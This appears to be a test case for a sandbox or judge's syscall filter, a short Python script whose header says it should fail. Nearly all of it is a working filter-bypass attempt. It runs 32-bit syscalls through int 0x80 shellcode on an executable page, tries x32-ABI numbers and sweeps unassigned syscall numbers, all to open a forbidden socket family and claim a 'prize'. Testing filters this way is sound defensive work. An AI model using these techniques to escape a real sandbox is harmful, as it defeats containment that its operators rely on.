# tries: to make system calls that the filter does not see: 32-bit ones by int 0x80, x32 ones, numbers not known yet
# success: one gives a socket of a forbidden family (the prize)
# expect: wrong_answer, runtime_error
# control: none, not every kernel has them
# prize: given
import ctypes, mmap, os

def old(number, *arguments):
    code = (b"\x53\xb8" + number.to_bytes(4, "little") + b"\xbb" + arguments[0].to_bytes(4, "little") + b"\xb9"
            + arguments[1].to_bytes(4, "little") + b"\xba" + arguments[2].to_bytes(4, "little") + b"\xcd\x80\x5b\xc3")
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()

def answer(clue):
    if clue == "public":
        return won(lambda: syscall(0x40000000 | 41, 16, 3, 0) >= 0, lambda: syscall(0x40000000 | 521, 0, 0) >= 0,
                   *(lambda number=number: syscall(number, 0, 0, 0, 0, 0, 0) >= 0 for number in range(463, 600)))
    return PRIZE if old(359, 16, 3, 0) >= 0 else None
